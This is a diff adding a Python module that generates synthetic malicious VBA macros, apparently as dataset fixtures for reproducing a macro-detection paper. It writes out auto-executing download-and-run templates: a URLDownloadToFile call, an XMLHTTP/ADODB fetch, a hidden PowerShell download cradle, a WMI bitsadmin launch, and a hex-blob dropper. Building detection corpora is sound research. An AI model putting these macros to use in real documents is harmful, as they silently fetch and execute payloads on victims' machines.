@@ -1,0 +1,165 @@
+"""Malicious VBA macro template families.
+
+Five families covering the attack patterns the paper's malicious corpus
+exhibits — overwhelmingly "Downloader"-style macros (Section IV.A notes the
+small malicious file sizes mean the payload is fetched from a remote address,
+not embedded):
+
+* URLDownloadToFile + Shell (the classic API downloader),
+* MSXML2.XMLHTTP + ADODB.Stream (scripting-object downloader),
+* PowerShell download cradle,
+* WMI process creation,
+* embedded-payload dropper (hex blob written to disk; the rarer "Dropper").
+
+Each uses an auto-exec entry point (``Document_Open`` / ``Workbook_Open`` /
+``AutoOpen``), the trigger style Section III.A describes.
+"""
+
+from __future__ import annotations
+
+import random
+
+from repro.corpus import names
+from repro.vba.writer import CodeWriter, quote_vba_string
+
+AUTO_EXEC_BY_HOST = {
+    "word": ("Document_Open", "AutoOpen"),
+    "excel": ("Workbook_Open", "Auto_Open"),
+}
+
+
+def _entry_point(rng: random.Random, host: str) -> str:
+    return rng.choice(AUTO_EXEC_BY_HOST[host])
+
+
+def api_downloader_macro(rng: random.Random, host: str) -> str:
+    url = names.malicious_url(rng)
+    path = names.drop_path(rng)
+    writer = CodeWriter()
+    writer.line(
+        'Private Declare Function URLDownloadToFile Lib "urlmon" '
+        'Alias "URLDownloadToFileA" (ByVal pCaller As Long, '
+        "ByVal szURL As String, ByVal szFileName As String, "
+        "ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long"
+    )
+    writer.line("")
+    with writer.block(f"Sub {_entry_point(rng, host)}()", "End Sub"):
+        writer.line("Dim dlUrl As String")
+        writer.line("Dim dlPath As String")
+        writer.line("On Error Resume Next")
+        writer.line(f"dlUrl = {quote_vba_string(url)}")
+        writer.line(f"dlPath = Environ({quote_vba_string('TEMP')}) & {quote_vba_string(chr(92) + path.split(chr(92))[-1])}")
+        writer.line("URLDownloadToFile 0, dlUrl, dlPath, 0, 0")
+        writer.line("Shell dlPath, 0")
+    return writer.render()
+
+
+def xmlhttp_downloader_macro(rng: random.Random, host: str) -> str:
+    url = names.malicious_url(rng)
+    file_name = rng.choice(names.MALICIOUS_FILE_NAMES)
+    writer = CodeWriter()
+    with writer.block(f"Sub {_entry_point(rng, host)}()", "End Sub"):
+        writer.line("Dim http As Object")
+        writer.line("Dim stream As Object")
+        writer.line("Dim target As String")
+        writer.line("On Error Resume Next")
+        writer.line('Set http = CreateObject("MSXML2.XMLHTTP")')
+        writer.line('Set stream = CreateObject("ADODB.Stream")')
+        writer.line(f'target = Environ("APPDATA") & "\\{file_name}"')
+        writer.line(f'http.Open "GET", {quote_vba_string(url)}, False')
+        writer.line("http.Send")
+        with writer.block("If http.Status = 200 Then", "End If"):
+            writer.line("stream.Open")
+            writer.line("stream.Type = 1")
+            writer.line("stream.Write http.responseBody")
+            writer.line("stream.SaveToFile target, 2")
+            writer.line("stream.Close")
+            writer.line('CreateObject("WScript.Shell").Run target, 0, False')
+    return writer.render()
+
+
+def powershell_macro(rng: random.Random, host: str) -> str:
+    url = names.malicious_url(rng)
+    file_name = rng.choice(names.MALICIOUS_FILE_NAMES)
+    cradle = (
+        "powershell -w hidden -nop -c "
+        f"\"(New-Object Net.WebClient).DownloadFile('{url}', "
+        f"'$env:TEMP\\{file_name}'); Start-Process '$env:TEMP\\{file_name}'\""
+    )
+    writer = CodeWriter()
+    with writer.block(f"Sub {_entry_point(rng, host)}()", "End Sub"):
+        writer.line("Dim cmd As String")
+        writer.line("On Error Resume Next")
+        writer.line(f"cmd = {quote_vba_string(cradle)}")
+        if rng.random() < 0.5:
+            writer.line("Shell cmd, 0")
+        else:
+            writer.line('CreateObject("WScript.Shell").Run cmd, 0, False')
+    return writer.render()
+
+
+def wmi_macro(rng: random.Random, host: str) -> str:
+    url = names.malicious_url(rng)
+    file_name = rng.choice(names.MALICIOUS_FILE_NAMES)
+    writer = CodeWriter()
+    with writer.block(f"Sub {_entry_point(rng, host)}()", "End Sub"):
+        writer.line("Dim wmi As Object")
+        writer.line("Dim proc As Object")
+        writer.line("On Error Resume Next")
+        writer.line('Set wmi = GetObject("winmgmts:\\\\.\\root\\cimv2")')
+        writer.line('Set proc = wmi.Get("Win32_Process")')
+        writer.line(
+            "proc.Create "
+            + quote_vba_string(
+                f'cmd /c bitsadmin /transfer upd /download {url} '
+                f"%TEMP%\\{file_name} & start %TEMP%\\{file_name}"
+            )
+            + ", Null, Null, 0"
+        )
+    return writer.render()
+
+
+def dropper_macro(rng: random.Random, host: str) -> str:
+    """Embedded payload written to disk: the paper's rarer "Dropper" class."""
+    file_name = rng.choice(names.MALICIOUS_FILE_NAMES)
+    # A fake PE payload as hex: 'MZ' header plus random bytes.
+    payload = bytes([0x4D, 0x5A]) + bytes(
+        rng.getrandbits(8) for _ in range(rng.randint(64, 256))
+    )
+    hex_blob = payload.hex().upper()
+    writer = CodeWriter()
+    with writer.block(f"Sub {_entry_point(rng, host)}()", "End Sub"):
+        writer.line("Dim blob As String")
+        writer.line("Dim out As Integer")
+        writer.line("Dim target As String")
+        writer.line("Dim i As Long")
+        writer.line("On Error Resume Next")
+        writer.line(f'blob = "{hex_blob[:64]}"')
+        for start in range(64, len(hex_blob), 64):
+            writer.line(f'blob = blob & "{hex_blob[start:start + 64]}"')
+        writer.line(f'target = Environ("TEMP") & "\\{file_name}"')
+        writer.line("out = FreeFile")
+        writer.line("Open target For Binary As #out")
+        with writer.block("For i = 1 To Len(blob) Step 2", "Next i"):
+            writer.line('Put #out, , CByte("&H" & Mid(blob, i, 2))')
+        writer.line("Close #out")
+        writer.line("Shell target, 0")
+    return writer.render()
+
+
+MALICIOUS_FAMILIES = (
+    api_downloader_macro,
+    xmlhttp_downloader_macro,
+    powershell_macro,
+    wmi_macro,
+    dropper_macro,
+)
+
+#: Weights reflecting the paper's observation: downloaders dominate.
+_FAMILY_WEIGHTS = (0.3, 0.3, 0.2, 0.12, 0.08)
+
+
+def generate_malicious_macro(rng: random.Random, host: str) -> str:
+    """Draw one malicious macro for the given host application."""
+    family = rng.choices(MALICIOUS_FAMILIES, weights=_FAMILY_WEIGHTS, k=1)[0]
+    return family(rng, host)
